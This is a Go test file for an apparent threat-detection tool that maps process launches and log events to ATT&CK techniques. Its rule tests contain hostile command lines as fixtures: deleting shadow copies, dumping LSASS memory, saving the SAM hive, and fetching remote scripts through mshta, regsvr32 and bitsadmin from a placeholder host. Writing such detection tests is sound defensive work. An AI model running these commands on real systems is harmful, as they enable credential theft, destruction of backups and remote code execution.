package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

var noon = time.Date(2026, 3, 10, 12, 0, 0, 0, time.UTC)

func TestWindowForgets(t *testing.T) {
	w := newWindow(10 * time.Minute)
	require.Equal(t, 1, w.add(noon, "k", "a"))
	require.Equal(t, 1, w.add(noon.Add(time.Minute), "k", "a"), "the same thing counts once")
	require.Equal(t, 2, w.add(noon.Add(5*time.Minute), "k", "b"))
	require.Equal(t, 2, w.add(noon.Add(12*time.Minute), "k", "c"), "a is too old")
	require.True(t, w.has(noon.Add(20*time.Minute), "k"))
	require.False(t, w.has(noon.Add(30*time.Minute), "k"))
	w.add(noon.Add(time.Hour), "other", "x")
	require.NotContains(t, w.seen, "k", "an old key is swept")
}

func TestRhythmTellsProgramsFromPeople(t *testing.T) {
	regular, irregular := &rhythm{}, &rhythm{}
	at, random, found, wrong := noon, noon, false, false
	gaps := []int{3, 200, 15, 90, 4, 400, 33, 7, 250, 60, 2, 500, 41, 5}
	for i := range 14 {
		at = at.Add(time.Duration(60+i%3) * time.Second)
		random = random.Add(time.Duration(gaps[i]) * time.Second)
		found = regular.beat(at) || found
		wrong = irregular.beat(random) || wrong
	}
	require.True(t, found)
	require.False(t, wrong)
}

func TestLineageForgetsTheOldest(t *testing.T) {
	l := lineage{suspect: map[string]bool{}}
	for i := range lineageCapacity + 10 {
		l.mark(strings.Repeat("x", i%7) + time.Duration(i).String())
	}
	require.Len(t, l.suspect, lineageCapacity)
	require.Len(t, l.order, lineageCapacity)
}

func TestHabitsCountHosts(t *testing.T) {
	h := &habits{hosts: map[string]*crowd{}}
	for _, host := range []string{"a", "a", "b", "a", "b"} {
		h.add("thing", host)
	}
	require.False(t, h.common("thing"), "two hosts are no crowd")
	h.add("thing", "c")
	h.add("thing", "d")
	require.True(t, h.common("thing"))
	require.False(t, h.common("unknown"))
	require.Equal(t, `c:\users\*\v#\x.exe`, normal(`C:\Users\Anna.Berg\v12\x.exe`))
}

func TestAlertsReportAFindingOnce(t *testing.T) {
	var out strings.Builder
	a := newAlerts(&out)
	a.raise(noon, "h", "T1003", 0.5)
	a.raise(noon.Add(time.Hour), "h", "T1003", 0.5)
	a.raise(noon.Add(7*time.Hour), "h", "T1003", 0.5)
	a.raise(noon, "", "T1003", 0.5)
	require.NoError(t, a.close())
	require.Equal(t, "time,host,technique,confidence\n2026-03-10T12:00:00.000Z,h,T1003,0.50\n2026-03-10T19:00:00.000Z,h,T1003,0.50\n", out.String())
}

// Each rule is tried on what it must find beside what it must leave alone.
func TestRulesOnCommandLines(t *testing.T) {
	for _, c := range []struct {
		want, image, command, parent string
		suspect                      bool
	}{
		{"T1490", "vssadmin.exe", "vssadmin delete shadows /all /quiet", "cmd.exe", false},
		{"", "vssadmin.exe", "vssadmin delete shadows /for=d: /oldest /quiet", "vbagent.exe", false},
		{"T1003.001", "rundll32.exe", `rundll32 comsvcs.dll, minidump 712 c:\x.dmp full`, "cmd.exe", false},
		{"T1003.002", "reg.exe", `reg save hklm\sam c:\x`, "cmd.exe", false},
		{"", "reg.exe", `reg export hklm\software\vendor c:\x.reg`, "cmd.exe", false},
		{"T1218.005", "mshta.exe", "mshta http://x.example/a.hta", "cmd.exe", false},
		{"", "mshta.exe", `mshta \\srv\apps\orders.hta`, "explorer.exe", false},
		{"T1218.010", "regsvr32.exe", "regsvr32 /s /i:http://x.example/a.sct scrobj.dll", "cmd.exe", false},
		{"", "regsvr32.exe", `regsvr32 /s "c:\program files\a\a.dll"`, "setup.exe", false},
		{"T1197", "bitsadmin.exe", "bitsadmin /transfer a http://x.example/y c:\\z", "mshta.exe", true},
		{"", "bitsadmin.exe", "bitsadmin /transfer a https://vendor.example/y c:\\z", "setup.exe", false},
		{"T1033", "whoami.exe", "whoami /all", "x.exe", true},
		{"", "whoami.exe", "whoami /groups", "cmd.exe", false},
		{"T1069.002", "net.exe", `net group "domain admins" /domain`, "cmd.exe", false},
		{"", "net.exe", `net group "vpn users" /domain`, "cmd.exe", false},
	} {
		p := launch{host: "h", image: c.image, path: c.image, command: c.command, parent: c.parent, suspect: c.suspect}
		got := ""
		for _, rule := range []func(launch) string{impact, credentials, proxies, files, discovery} {
			if got = rule(p); got != "" {
				break
			}
		}
		require.Equal(t, c.want, got, c.command)
	}
}

func TestAdministratorsMayLookAround(t *testing.T) {
	p := launch{host: "h", image: "nltest.exe", command: "nltest /domain_trusts", admin: true}
	require.Empty(t, discovery(p))
	p.suspect = true
	require.Equal(t, "T1482", discovery(p))
}

// played runs the whole program on small logs and returns the alerts.
func played(t *testing.T, files map[string]string) string {
	t.Helper()
	in, out := t.TempDir(), t.TempDir()
	for name, text := range files {
		require.NoError(t, os.WriteFile(filepath.Join(in, name), []byte(text), 0o644))
	}
	require.NoError(t, run(in, out))
	alerts, err := os.ReadFile(filepath.Join(out, "alerts.csv"))
	require.NoError(t, err)
	return string(alerts)
}

const inventory = "host,role,department,address,mac,agent,owner\nPC1,workstation,hr,10.0.0.1,,true,anna\nPC2,workstation,hr,10.0.0.2,,true,ben\nSRV,file_server,IT,10.0.0.9,,true,\n"

func TestFollowsAddressesThroughLeases(t *testing.T) {
	guess := strings.Repeat(`{"ts":1773144060.0,"id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.9","id.resp_p":22,"duration":1.0,"conn_state":"SF"}`+"\n", 20)
	require.Contains(t, played(t, map[string]string{"assets.csv": inventory, "conn.log": guess}), ",pc1,T1110.001,")
	lease := `{"ts":1773144000.0,"assigned_addr":"10.0.0.1","host_name":"PC2"}` + "\n"
	require.Contains(t, played(t, map[string]string{"assets.csv": inventory, "conn.log": guess, "dhcp.log": lease, "host.jsonl": ""}), ",pc2,T1110.001,")
}

func TestDisclosesMemoryReadsButNotTheSensorEverybodyHas(t *testing.T) {
	event := func(host, image string) string {
		return `{"UtcTime":"2026-03-10 12:00:00.000","EventID":10,"Computer":"` + host + `.corp","SourceImage":"` + image + `","TargetImage":"C:\\Windows\\System32\\lsass.exe","GrantedAccess":"0x1410"}` + "\n"
	}
	sensor := `C:\\ProgramData\\Sensor\\s.exe`
	got := played(t, map[string]string{"assets.csv": inventory,
		"host.jsonl": event("PC1", sensor) + event("PC2", sensor) + event("SRV", sensor) + event("PC2", `C:\\Users\\ben\\x.exe`)})
	require.Equal(t, "time,host,technique,confidence\n2026-03-10T12:00:00.000Z,pc2,T1003.001,0.90\n", got)
}

func TestPassesOverBrokenLinesAndMissingLogs(t *testing.T) {
	got := played(t, map[string]string{"host.jsonl": "not json\n{}\n{\"UtcTime\":\"never\"}\n" +
		`{"UtcTime":"2026-03-10 12:00:00.000","EventID":1102,"Computer":"pc1"}`})
	require.Contains(t, got, "2026-03-10T12:00:00.000Z,pc1,T1070.001,")
	require.Error(t, run(t.TempDir(), t.TempDir()), "no log at all")
}
